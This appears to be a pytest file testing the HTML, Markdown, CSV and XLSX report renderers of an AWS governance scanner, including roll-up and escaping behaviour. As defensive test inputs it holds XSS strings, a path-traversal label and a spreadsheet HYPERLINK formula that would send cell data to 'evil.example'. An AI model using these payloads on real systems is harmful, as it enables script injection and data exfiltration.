"""Evidence reports: goldens, escaping, notes, matrix, CSV/XLSX contents, atomic writes.

The goldens in tests/golden come from fixtures/sample_docs.py; `make golden` regenerates them
and the diff is the review.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from fixtures.sample_docs import (
    HOSTILE,
    SAMPLE_CHECKS,
    SAMPLE_SPECS,
    sample_documents,
    sample_runs,
    write_golden,
    write_notes,
)
from scanner.catalog import load_catalog
from scanner.document import compute_digest, from_document, to_document
from scanner.models import Status
from scanner.report import (
    FORMATS,
    parse_formats,
    publish,
    render_all,
    render_findings_csv,
    render_html,
    render_markdown,
    render_matrix_markdown,
    render_reports,
    write_reports,
)
from scanner.report_inputs import ReportError, file_stems
from scanner.report_markdown import md_escape
from scanner.report_tabular import CSV_COLUMNS
from scanner.rollup import roll_up, vacuous_criteria

GOLDEN = Path(__file__).resolve().parents[1] / "golden"


@pytest.fixture(scope="module")
def docs() -> list[dict[str, Any]]:
    return sample_documents()


def _cells(data: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}


def test_goldens_are_current(tmp_path: Path) -> None:
    """Every golden file is what the renderers produce now (run `make golden` and review the diff)."""
    written = write_golden(tmp_path)
    names = sorted(p.relative_to(tmp_path).as_posix() for p in written)
    expected = sorted(p.relative_to(GOLDEN).as_posix() for p in GOLDEN.rglob("*") if p.is_file())
    assert sorted(set(names) | {n for n in expected if n.startswith("notes/")}) == expected
    for name in names:
        fresh, golden = (tmp_path / name).read_bytes(), (GOLDEN / name).read_bytes()
        if name.endswith(".xlsx"):  # compare what a reader sees, not the zip's compression bytes
            assert _cells(fresh) == _cells(golden), f"{name} differs: run `make golden` and review"
        else:
            assert fresh.decode() == golden.decode(), f"{name} differs: run `make golden` and review"


def test_every_format_is_byte_identical_across_renders(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    notes = write_notes(tmp_path / "notes")
    first = render_reports(docs, FORMATS, notes_dir=notes, checks=SAMPLE_CHECKS)
    second = render_reports(docs, FORMATS, notes_dir=notes, checks=SAMPLE_CHECKS)
    assert set(first) == {
        *(f"appendix-{s}.{k}" for s in ("acme-prod", "clinic", "bakery", "law-firm-partners") for k in ("html", "md")),
        "matrix.html", "matrix.md", "findings.csv", "evidence.xlsx",
    }
    assert first == second


def test_hostile_resource_name_is_text_in_html(docs: list[dict[str, Any]]) -> None:
    html = render_html(docs[0], load_catalog(), None, SAMPLE_CHECKS)
    assert "<script>alert" not in html
    assert html.count("<script") == 1  # govscan's own inline script only
    assert "&lt;script&gt;alert(1)&lt;/script&gt;|x" in html
    # The content security policy forbids any fetch and any other script.
    assert "default-src 'none'" in html and "script-src 'sha256-" in html
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)


def _outside_fences(markdown: str) -> str:
    return re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", markdown, flags=re.S | re.M)


def test_hostile_resource_name_is_text_in_markdown(docs: list[dict[str, Any]]) -> None:
    md = render_markdown(docs[0], load_catalog(), None, SAMPLE_CHECKS)
    prose = _outside_fences(md)
    assert "<script" not in prose
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in prose
    row = next(line for line in prose.splitlines() if line.startswith("| **FAIL**") and "alert(1)" in line)
    assert len(re.findall(r"(?<!\\)\|", row)) == 7  # six cells: the name's | does not split the row
    # Inside the evidence fence the JSON is verbatim, and a ``` in it does not close the fence.
    assert "````json\n" in md and '"GroupName": "<script>alert(1)</script>|x"' in md


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("a|b", "a\\|b"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("**bold** _it_ `code`", "\\*\\*bold\\*\\* \\_it\\_ \\`code\\`"),
        ("[link](x) ~~s~~ $x$", "\\[link\\](x) \\~\\~s\\~\\~ \\$x\\$"),
        ("two\nlines\r\n", "two lines"),
        ("a & b \\ c", "a &amp; b \\\\ c"),
    ],
)
def test_markdown_escaping(raw: str, escaped: str) -> None:
    assert md_escape(raw) == escaped


def test_notes_are_merged_and_missing_ones_listed(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    notes = write_notes(tmp_path / "notes")
    files = render_reports(docs[:2], ["html", "md"], notes_dir=notes, checks=SAMPLE_CHECKS)
    acme_md, clinic_md = files["appendix-acme-prod.md"], files["appendix-clinic.md"]
    assert isinstance(acme_md, str) and isinstance(clinic_md, str)
    assert "> Root credentials are held in the **partner's vault**" in acme_md
    assert "&lt;b&gt;not bold&lt;/b&gt;" in acme_md  # the narrative's raw HTML stays text
    assert "no narrative yet: [OPE-003](#ctl-OPE-003), [REL-002](#ctl-REL-002)." in acme_md
    assert "no narrative yet: [TEC-002](#ctl-TEC-002), [ACCT-001](#ctl-ACCT-001)" in clinic_md
    assert "match no control of this appendix (check their names): ACCT-01." in clinic_md
    acme_html = files["appendix-acme-prod.html"]
    assert isinstance(acme_html, str)
    assert "Operational readiness was reviewed with Acme" in acme_html
    assert "&lt;b&gt;not bold&lt;/b&gt;" in acme_html
    # Without --notes nothing is listed as missing.
    plain = render_markdown(docs[0], load_catalog(), None, SAMPLE_CHECKS)
    assert "Partner narratives" not in plain and "no narrative" not in plain


def test_manual_criteria_say_what_the_auditor_asks_for(docs: list[dict[str, Any]]) -> None:
    md = render_markdown(docs[1], load_catalog(), None, SAMPLE_CHECKS)
    sop = load_catalog().criteria["ACCT-001.5"].manual_evidence
    assert f"*Manual evidence.* The auditor will ask for: {md_escape(sop)}" in md


def test_appendix_shows_calls_behind_each_finding(docs: list[dict[str, Any]]) -> None:
    md = render_markdown(docs[1], load_catalog(), None, SAMPLE_CHECKS)
    error_row = next(line for line in md.splitlines() if line.startswith("| **ERROR**"))
    call_id = re.search(r"\[(c\d+)\]\(#call-(c\d+)\)", error_row)
    assert call_id and call_id.group(1) == call_id.group(2)
    annex = next(line for line in md.splitlines() if line.startswith(f'| <a id="call-{call_id.group(1)}"></a>'))
    assert "`guardduty:ListDetectors`" in annex and "| denied |" in annex and "AccessDeniedException" in annex


def test_summary_names_account_scan_and_digest(docs: list[dict[str, Any]]) -> None:
    html = render_html(docs[3], load_catalog(), None, SAMPLE_CHECKS)
    for text in ("444455556666", "law firm &amp; partners",
                 "arn:aws:sts::444455556666:assumed-role/GovscanReadOnly/govscan", "us-east-1, ap-southeast-2",
                 "2026-03-02T12:00:00Z", "govscan 0.1.0", "aws-smb-competency 2025-08",
                 docs[3]["digest"], "The scan was interrupted", "Region ap-southeast-2 was skipped"):
        assert text in html, text
    assert '<table id="control-table">' in html


def test_matrix_applies_the_at_least_one_account_rule(docs: list[dict[str, Any]]) -> None:
    md = render_matrix_markdown(docs, load_catalog(), [f"appendix-{s}.md" for s in file_stems(docs)])
    rows = {line.split(" | ")[0].strip("| *"): line for line in md.splitlines() if line.startswith("| ")}
    assert rows["ACCT-001"].endswith("**yes (3 of 4)** |")  # clinic's root has no MFA
    assert "[**NOT\\_MET**](appendix-clinic.md#ctl-ACCT-001)" in rows["ACCT-001"]
    assert rows["NETSEC-001"].endswith("**yes (1 of 4)** |")  # only the bakery meets it
    assert rows["TEC-002"].endswith("**manual evidence** |")
    assert rows["ACCT-001.2"].endswith(" yes (3 of 4) |")


def test_csv_has_one_row_per_finding_in_stable_columns(docs: list[dict[str, Any]]) -> None:
    rows = list(csv.reader(io.StringIO(render_findings_csv(docs))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) - 1 == sum(len(d["findings"]) for d in docs)
    hostile = next(r for r in rows if HOSTILE in r[CSV_COLUMNS.index("resource_id")])
    assert hostile[CSV_COLUMNS.index("status")] == "FAIL"
    assert json.loads(hostile[CSV_COLUMNS.index("evidence")])["GroupName"] == HOSTILE


def _with_finding_text(doc: dict[str, Any], text: str) -> dict[str, Any]:
    doc = json.loads(json.dumps(doc))
    doc["findings"][0]["resource_id"] = text
    doc["findings"][0]["message"] = text
    doc["digest"] = compute_digest(doc)
    return doc


def test_spreadsheet_formulas_never_run(docs: list[dict[str, Any]]) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = _with_finding_text(docs[0], formula)
    rows = list(csv.reader(io.StringIO(render_findings_csv([doc]))))
    assert any(r[CSV_COLUMNS.index("resource_id")] == "'" + formula for r in rows)
    data = render_reports([doc], ["xlsx"], checks=SAMPLE_CHECKS)["evidence.xlsx"]
    assert isinstance(data, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["acme-prod"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_xlsx_cells_match_the_scan_documents(docs: list[dict[str, Any]]) -> None:
    data = render_reports(docs, ["html", "xlsx"], checks=SAMPLE_CHECKS)["evidence.xlsx"]
    assert isinstance(data, bytes)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Summary", "Scans", "acme-prod", "clinic", "bakery", "law firm & partners"]
    summary = [list(r) for r in book["Summary"].iter_rows(values_only=True)]
    header = summary[4]
    names = ["acme-prod", "clinic", "bakery", "law firm & partners"]
    assert header[:3] == ["Control", "Title", "Requirement"]
    assert header[3:7] == [*names[:3], "law firm & partners (incomplete scan)"]  # an interrupted scan
    by_id = {row[0]: row for row in summary[5:]}
    for column, doc in enumerate(docs, start=3):
        empty = vacuous_criteria(from_document(doc))  # the bakery's TEC-001.1 and REL-002.2: no databases
        for control in doc["controls"]:
            assert by_id[control["id"]][column] == control["status"], (control["id"], names[column - 3])
            for criterion in control["criteria"]:
                if criterion["id"] in by_id:
                    want = "MET (nothing in scope)" if criterion["id"] in empty else criterion["status"]
                    assert by_id[criterion["id"]][column] == want
    assert by_id["REL-002.2"][7] == "yes (2 of 4; 1 of them with nothing in scope)"
    assert by_id["ACCT-001"][7] == "yes (3 of 4)"
    assert by_id["ACCT-001"][9].splitlines()[0] == "appendix-acme-prod.html#ctl-ACCT-001"
    scans = [list(r) for r in book["Scans"].iter_rows(values_only=True)]
    assert [r[0] for r in scans[1:]] == [d["target"]["account_id"] for d in docs]
    assert [r[11] for r in scans[1:]] == [d["digest"] for d in docs]
    assert [r[5] for r in scans[1:]] == ["yes", "yes", "yes", "no (interrupted)"]
    marked = book["Scans"].cell(row=5, column=6)
    assert marked.font.bold and marked.fill.start_color.rgb.endswith("FFEB9C")
    for doc, name in zip(docs, names, strict=True):
        rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in book[name].iter_rows(min_row=2, values_only=True)]
        keys = ("check_id", "status", "region", "resource_id", "message")
        want = sorted(tuple(f[k] for k in keys) for f in doc["findings"])
        assert sorted(tuple(r[k] for k in keys) for r in rows) == want
        for row in rows:
            finding = next(f for f in doc["findings"] if (f["check_id"], f["resource_id"], f["region"]) ==
                           (row["check_id"], row["resource_id"], row["region"]))
            assert json.loads(row["evidence"]) == finding["evidence"]
            assert row["calls"] == " ".join(finding["calls"])


def test_file_names_are_safe_and_unique(docs: list[dict[str, Any]]) -> None:
    twin = json.loads(json.dumps(docs[0]))
    twin["target"]["label"] = "../../etc/acme prod"
    twin["digest"] = compute_digest(twin)
    stems = file_stems([docs[0], docs[0], twin, docs[3]])
    assert stems == ["acme-prod", "acme-prod-111122223333", "etc-acme-prod", "law-firm-partners"]


def test_parse_formats() -> None:
    assert parse_formats("md, HTML") == ("html", "md")
    assert parse_formats("all") == FORMATS
    with pytest.raises(ReportError, match="pdf"):
        parse_formats("html,pdf")


def test_invalid_document_writes_nothing(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    tampered = json.loads(json.dumps(docs[1]))
    tampered["findings"][0]["status"] = "FAIL"  # was PASS: the digest no longer matches
    out = tmp_path / "out"
    with pytest.raises(ReportError, match="digest mismatch"):
        write_reports([docs[0], tampered], out, FORMATS, checks=SAMPLE_CHECKS)
    assert not out.exists()


def test_unwritable_output_is_a_clear_error(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(ReportError, match="not a directory"):
        write_reports(docs, blocker, ["md"], checks=SAMPLE_CHECKS)
    assert blocker.read_text() == "not a directory"


def test_write_reports_returns_the_files_it_wrote(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    written = write_reports(docs[:1], tmp_path / "one", ["html", "md", "csv"], checks=SAMPLE_CHECKS)
    assert [p.name for p in written] == ["appendix-acme-prod.html", "appendix-acme-prod.md", "findings.csv"]
    assert sorted(p.name for p in (tmp_path / "one").iterdir()) == sorted(p.name for p in written)  # no temp files


def test_templates_are_package_data_with_autoescape() -> None:
    from scanner.report import environment

    html = environment("html")
    assert html.autoescape is True and html.undefined.__name__ == "StrictUndefined"
    rendered = html.from_string("{{ value }}").render(value="<b>")
    assert rendered == "&lt;b&gt;"
    assert environment("md").from_string("{{ value }}").render(value="<b>|") == "&lt;b&gt;\\|"


def test_narrative_markdown_subset_is_escaped_html(docs: list[dict[str, Any]]) -> None:
    from scanner.report_narrative import Block, Span, parse

    text = "## Plan\n\nWe **keep** <script>x()</script> `a<b`.\n\n- one\n- *two*\n\n```\n<b>raw</b>\n```\n"
    assert parse(text) == (
        Block("heading", ((Span("text", "Plan"),),)),
        Block("paragraph", ((Span("text", "We "), Span("strong", "keep"), Span("text", " <script>x()</script> "),
                             Span("code", "a<b"), Span("text", ".")),)),
        Block("bullets", ((Span("text", "one"),), (Span("em", "two"),))),
        Block("code", ((Span("text", "<b>raw</b>"),),)),
    )
    html = render_html(docs[0], load_catalog(), {"ACCT-001": text}, SAMPLE_CHECKS)
    assert "<script>x()" not in html and "&lt;script&gt;x()&lt;/script&gt;" in html
    assert "<strong>keep</strong>" in html and "<code>a&lt;b</code>" in html and "<em>two</em>" in html
    assert "&lt;b&gt;raw&lt;/b&gt;" in html


def test_every_template_file_ships_in_the_wheel() -> None:
    """pyproject's package data must match every file the renderers load (a wheel has nothing else)."""
    import fnmatch
    import tomllib

    root = Path(__file__).resolve().parents[2]
    setuptools = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["setuptools"]
    globs = setuptools["package-data"]["report_templates"]
    for path in (root / "report_templates").iterdir():
        if path.is_file() and path.suffix != ".py":
            assert any(fnmatch.fnmatch(path.name, g) for g in globs), f"{path.name} would be missing from the wheel"


# --- one scan per account; roll-up reconciled; where titles come from ------------------------


def _variant(doc: dict[str, Any], day: str, *, complete: bool = True, met: tuple[str, ...] = ()) -> dict[str, Any]:
    """``doc`` as if scanned on 2026-03-``day`` (a new scan id), ``met`` controls and their criteria MET."""
    copy = json.loads(json.dumps(doc))
    copy["scan_id"] = f"{doc['scan_id'][:-2]}{day}"
    copy["started_at"] = f"2026-03-{day}{doc['started_at'][10:]}"
    copy["finished_at"] = f"2026-03-{day}{doc['finished_at'][10:]}"
    copy["complete"] = complete
    for control in copy["controls"]:
        if control["id"] in met:
            control["status"] = "MET"
            for criterion in control["criteria"]:
                criterion["status"] = "MET" if criterion["check_ids"] else criterion["status"]
    copy["digest"] = compute_digest(copy)
    return copy


def test_each_account_counts_once_in_matrix_csv_and_workbook(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    """Last month's clinic scan (ACCT-001 MET then) beside today's, and acme given twice: the
    matrix still says 3 of 4 accounts, from the latest complete scan of each."""
    stale = _variant(docs[1], "01", met=("ACCT-001",))
    given = [stale, *docs, docs[0]]
    rendered = render_all(given, ["md", "csv", "xlsx"], checks=SAMPLE_CHECKS)
    assert [d["scan_id"] for d in rendered.docs] == [d["scan_id"] for d in docs]
    assert [s.describe() for s in rendered.set_aside] == [
        f"scan {stale['scan_id']} of clinic (222233334444) set aside: older than scan {docs[1]['scan_id']} "
        f"({docs[1]['started_at']}) of the same account, which is used",
        f"scan {docs[0]['scan_id']} of acme-prod (111122223333) set aside: the same scan was given more than once",
    ]
    md = rendered.files["matrix.md"]
    assert isinstance(md, str)
    acct = next(line for line in md.splitlines() if line.startswith("| **ACCT-001**"))
    assert acct.endswith("**yes (3 of 4)** |") and "Cross-account matrix: 4 accounts" in md
    assert f"> **Not counted:** scan {stale['scan_id']} of clinic" in md
    assert sorted(rendered.files) == sorted([f"appendix-{s}.md" for s in file_stems(docs)]
                                            + ["matrix.md", "findings.csv", "evidence.xlsx"])
    rows = list(csv.DictReader(io.StringIO(str(rendered.files["findings.csv"]))))
    assert len(rows) == sum(len(d["findings"]) for d in docs)
    assert stale["scan_id"] not in {r["scan_id"] for r in rows}
    data = rendered.files["evidence.xlsx"]
    assert isinstance(data, bytes)
    book = _cells(data)
    assert book["Summary"][4][3:7] == ["acme-prod", "clinic", "bakery", "law firm & partners (incomplete scan)"]
    summary = {row[0]: row for row in book["Summary"][5:]}
    assert summary["ACCT-001"][7] == "yes (3 of 4)"
    scans = book["Scans"]
    assert [r[2] for r in scans[1:5]] == [d["scan_id"] for d in docs]
    assert scans[6][0] == "Documents set aside (another scan of the same account is used)"
    assert [r[2] for r in scans[8:10]] == [stale["scan_id"], docs[0]["scan_id"]]
    # Straight to the renderers, too: the same file twice is not two accounts.
    twice = render_matrix_markdown([docs[0], docs[0], docs[1]], load_catalog())
    assert "Cross-account matrix: 2 accounts" in twice and " of 3)" not in twice


def test_a_complete_scan_outranks_a_later_interrupted_one(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    interrupted = _variant(docs[2], "09", complete=False)
    published = publish([docs[0], interrupted, docs[2]], out_dir=tmp_path / "out", formats=["md"],
                        bundle=tmp_path / "b.zip", checks=SAMPLE_CHECKS)
    assert [s.scan_id for s in published.set_aside] == [interrupted["scan_id"]]
    assert published.set_aside[0].reason == (
        f"incomplete (interrupted); the complete scan {docs[2]['scan_id']} ({docs[2]['started_at']}) is used")
    with zipfile.ZipFile(tmp_path / "b.zip") as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert [s["scan_id"] for s in manifest["scans"]] == [docs[0]["scan_id"], docs[2]["scan_id"]]
    matrix = (tmp_path / "out" / "matrix.md").read_text()
    assert f"scan {interrupted['scan_id']} of bakery (333344445555) set aside: incomplete" in matrix
    # An account with only an interrupted scan keeps it, marked.
    alone = render_all([docs[0], interrupted], ["html"], checks=SAMPLE_CHECKS)
    assert alone.set_aside == ()
    html = str(alone.files["matrix.html"])
    assert "<th scope=\"col\">bakery (incomplete scan)</th>" in html
    assert '<span class="badge st-INCOMPLETE">no: interrupted, some checks did not run</span>' in html


def test_a_criterion_is_never_met_beside_a_check_without_findings(docs: list[dict[str, Any]]) -> None:
    """A document rolled up by an older govscan says ACCT-001.2 MET though one of its two checks
    (iam_root_hardware_mfa) produced no finding: the reports show INCOMPLETE, and say why."""
    older = json.loads(json.dumps(docs[0]))
    acct = next(c for c in older["controls"] if c["id"] == "ACCT-001")
    crit = next(k for k in acct["criteria"] if k["id"] == "ACCT-001.2")
    assert (acct["status"], crit["status"]) == ("MET", "MET")
    crit["check_ids"] = ["iam_root_hardware_mfa", "iam_root_mfa_enabled"]
    older["digest"] = compute_digest(older)
    html = render_html(older, load_catalog(), None, SAMPLE_CHECKS)
    section = html[html.index('<div class="criterion st-line-INCOMPLETE" id="crit-ACCT-001.2">'):]
    section = section[: section.index('<div class="criterion', 10)]
    assert '<span class="badge st-INCOMPLETE">INCOMPLETE</span>' in section and "st-MET" not in section
    assert "This check produced no finding in this scan" in section
    assert ("Criteria ACCT-001.2 are shown INCOMPLETE although this document (govscan 0.1.0) rolled them up as "
            "MET") in html
    assert ('<a href="#ctl-ACCT-001">ACCT-001</a></td><td>Define Secure AWS Account Governance Best Practice</td>'
            '<td><span class="badge st-INCOMPLETE">INCOMPLETE</span>') in html
    md = render_matrix_markdown([older, docs[1]], load_catalog())
    assert next(line for line in md.splitlines() if line.startswith("| ACCT-001.2 |")).endswith(" no |")
    assert "Criteria ACCT-001.2 are shown INCOMPLETE" not in render_html(docs[0], load_catalog(), None,
                                                                            SAMPLE_CHECKS)


def test_titles_say_which_govscan_they_come_from(docs: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
                                                 caplog: pytest.LogCaptureFixture) -> None:
    from scanner import __version__

    newer = json.loads(json.dumps(docs[0]))
    newer["scanner"]["version"] = "9.9.9"
    newer["findings"][0]["check_id"] = "iam_retired_check"
    newer["digest"] = compute_digest(newer)
    html = render_html(newer, load_catalog())  # titles from the installed registry
    assert (f"Check titles and rationales come from the installed govscan {__version__}; this document was "
            "written by govscan 9.9.9, whose wording may differ.") in html
    assert f"Checks unknown to the installed govscan {__version__}, shown without title: iam_retired_check." in html
    from markupsafe import escape

    from scanner.registry import load_checks

    assert str(escape(load_checks()["iam_root_mfa_enabled"].title)) in html  # known checks keep their title
    assert "installed govscan" not in render_html(docs[0], load_catalog(), None, SAMPLE_CHECKS)

    import scanner.registry

    def broken() -> None:
        raise scanner.registry.RegistryError("duplicate check id 'x' in checks.x")

    monkeypatch.setattr(scanner.registry, "load_checks", broken)
    with caplog.at_level("WARNING", logger="scanner.report"):
        md = render_markdown(docs[0], load_catalog())
    assert "the installed check registry could not be loaded (duplicate check id 'x' in checks.x)" in caplog.text
    assert (f"Check titles and rationales are missing: the installed govscan {__version__} could not load its "
            "check registry (RegistryError: duplicate check id 'x' in checks.x).") in md


# --- MET with nothing in scope ----------------------------------------------------------------


def _nothing_in_scope_doc() -> dict[str, Any]:
    """The bakery without databases (TEC-001.1 and REL-002.2 on NOT_APPLICABLE alone, as sampled),
    its RPO/RTO check NOT_APPLICABLE too (so REL-002.1 and TEC-001.3 also, and the whole of REL-002),
    and one NOT_APPLICABLE beside the PASS of ec2_default_sg_closed (NETSEC-001.2: a real example)."""
    bakery = sample_runs()[2]
    findings = [replace(f, status=Status.NOT_APPLICABLE) if f.check_id == "backup_rpo_rto_targets" else f
                for f in bakery.findings]
    sg = next(f for f in findings if f.check_id == "ec2_default_sg_closed")
    findings.append(replace(sg, status=Status.NOT_APPLICABLE, resource_id="arn:aws:ec2:us-east-1:333344445555:vpc/none",
                            message="No default security group in this VPC."))
    kept = {c.id for c in bakery.controls}
    controls = tuple(c for c in roll_up(load_catalog(), findings, SAMPLE_SPECS) if c.id in kept)
    return to_document(replace(bakery, findings=tuple(findings), controls=controls))


def test_met_with_nothing_in_scope_is_marked_in_the_appendix() -> None:
    doc = _nothing_in_scope_doc()
    statuses = {k["id"]: k["status"] for c in doc["controls"] for k in [c, *c["criteria"]]}
    assert statuses["REL-002"] == statuses["REL-002.2"] == statuses["NETSEC-001.2"] == "MET"  # the contract stands
    empty_badge = ('<span class="badge st-MET_EMPTY" title="MET only because every finding was NOT_APPLICABLE">'
                   "MET — nothing in scope</span>")
    html = render_html(doc, load_catalog(), None, SAMPLE_CHECKS)

    def heading(anchor: str) -> str:  # the element opening a section and its heading line
        start = html.index(f'id="{anchor}">')
        return html[html.rindex("<", 0, start): html.index("\n", html.index("\n", start) + 1)]

    assert heading("ctl-REL-002").endswith(f"{empty_badge}</h2>")
    assert heading("ctl-TEC-001").endswith('<span class="badge st-MET">MET</span></h2>')  # TEC-001.2 is real
    assert (f'<a href="#ctl-REL-002">REL-002</a></td><td>{load_catalog().control("REL-002").title}</td>'
            f"<td>{empty_badge}</td>") in html
    for crit in ("REL-002.1", "REL-002.2", "TEC-001.1", "TEC-001.3"):
        assert heading(f"crit-{crit}").startswith('<div class="criterion st-line-MET nothing-in-scope"'), crit
        assert heading(f"crit-{crit}").endswith(f"{empty_badge}</h3>"), crit
    for crit in ("TEC-001.2", "NETSEC-001.2"):  # a PASS among the findings: a real example, plain MET
        assert heading(f"crit-{crit}").startswith('<div class="criterion st-line-MET" '), crit
        assert heading(f"crit-{crit}").endswith('<span class="badge st-MET">MET</span></h3>'), crit
    assert "MET only because every finding was NOT_APPLICABLE (nothing of that kind exists" in html  # the legend
    md = render_markdown(doc, load_catalog(), None, SAMPLE_CHECKS)
    lines = md.splitlines()
    assert next(x for x in lines if x.startswith("| [REL-002]")).count("| **MET — nothing in scope** |") == 1
    assert next(x for x in lines if x.startswith("| [TEC-001]")).count("| **MET** |") == 1
    assert any(x.startswith("## ") and "REL-002 " in x and x.endswith(": MET — nothing in scope") for x in lines)
    assert any(x.startswith("## ") and "TEC-001 " in x and x.endswith(": MET") for x in lines)
    for crit, mark in (("REL-002.2", "MET — nothing in scope"), ("TEC-001.1", "MET — nothing in scope"),
                       ("TEC-001.2", "MET"), ("NETSEC-001.2", "MET")):
        heading = next(x for x in lines if x.startswith(f'### <a id="crit-{crit}"></a>'))
        assert heading.endswith(f": {mark}"), heading
    assert "MET — nothing in scope: MET only because every finding was NOT\\_APPLICABLE" in md
    # An appendix without such a status carries no legend.
    plain = render_markdown(sample_documents()[0], load_catalog(), None, SAMPLE_CHECKS)
    assert "nothing in scope" not in plain


def test_met_with_nothing_in_scope_is_marked_in_matrix_and_workbook(docs: list[dict[str, Any]]) -> None:
    """The empty bakery is the only account meeting REL-002: the row says the control still lacks
    a real customer example. NETSEC-001.2 (a PASS beside a NOT_APPLICABLE) is met for real."""
    given = [_nothing_in_scope_doc(), docs[1]]  # the clinic fails REL-002 and NETSEC-001.2
    hrefs = ["appendix-bakery.md", "appendix-clinic.md"]
    md = render_matrix_markdown(given, load_catalog(), hrefs)
    rows = {line.split(" | ")[0].strip("| *"): line for line in md.splitlines() if line.startswith("| ")}
    assert "[**MET°**](appendix-bakery.md#ctl-REL-002)" in rows["REL-002"]
    assert rows["REL-002"].endswith("**yes, but only with nothing in scope (1 of 2)** |")
    assert "[MET°](appendix-bakery.md#crit-REL-002.2)" in rows["REL-002.2"]
    assert rows["REL-002.2"].endswith(" yes, but only with nothing in scope (1 of 2) |")
    assert "[MET](appendix-bakery.md#crit-NETSEC-001.2)" in rows["NETSEC-001.2"]
    assert rows["NETSEC-001.2"].endswith(" yes (1 of 2) |")
    assert "[**MET**](appendix-bakery.md#ctl-TEC-001)" in rows["TEC-001"]
    assert "° nothing in scope: every finding was NOT\\_APPLICABLE" in md
    assert "nothing in scope" not in render_matrix_markdown(docs[:2], load_catalog())  # no mark, no footnote
    files = render_reports(given, ["html", "xlsx"], checks=SAMPLE_CHECKS)
    html = str(files["matrix.html"])
    row = next(x for x in html.splitlines() if x.startswith('<tr class="control-row"><td>REL-002</td>'))
    assert '<a class="badge st-MET_EMPTY" href="appendix-bakery.html#ctl-REL-002">MET°</a>' in row
    assert '<span class="badge st-MET_EMPTY">yes, but only with nothing in scope (1 of 2)</span>' in row
    row = next(x for x in html.splitlines() if x.startswith('<tr class="criterion-row"><td>NETSEC-001.2</td>'))
    assert '<a class="badge st-MET" href="appendix-bakery.html#crit-NETSEC-001.2">MET</a>' in row
    assert "° nothing in scope: every finding was NOT_APPLICABLE" in html
    data = files["evidence.xlsx"]
    assert isinstance(data, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Summary"]
    summary = {row[0].value: row for row in sheet.iter_rows(min_row=6)}
    assert [c.value for c in summary["REL-002"][3:6]] == [
        "MET (nothing in scope)", "NOT_MET", "yes, but only with nothing in scope (1 of 2)"]
    assert summary["REL-002"][3].fill.start_color.rgb.endswith("EBF7EE")
    assert [c.value for c in summary["REL-002.2"][3:6]] == [
        "MET (nothing in scope)", "NOT_MET", "yes, but only with nothing in scope (1 of 2)"]
    assert [c.value for c in summary["NETSEC-001.2"][3:6]] == ["MET", "NOT_MET", "yes (1 of 2)"]
    assert [c.value for c in summary["TEC-001"][3:4]] == ["MET"]
    assert str(sheet.cell(row=4, column=1).value).startswith("MET (nothing in scope): every finding was NOT_APPLICABLE")
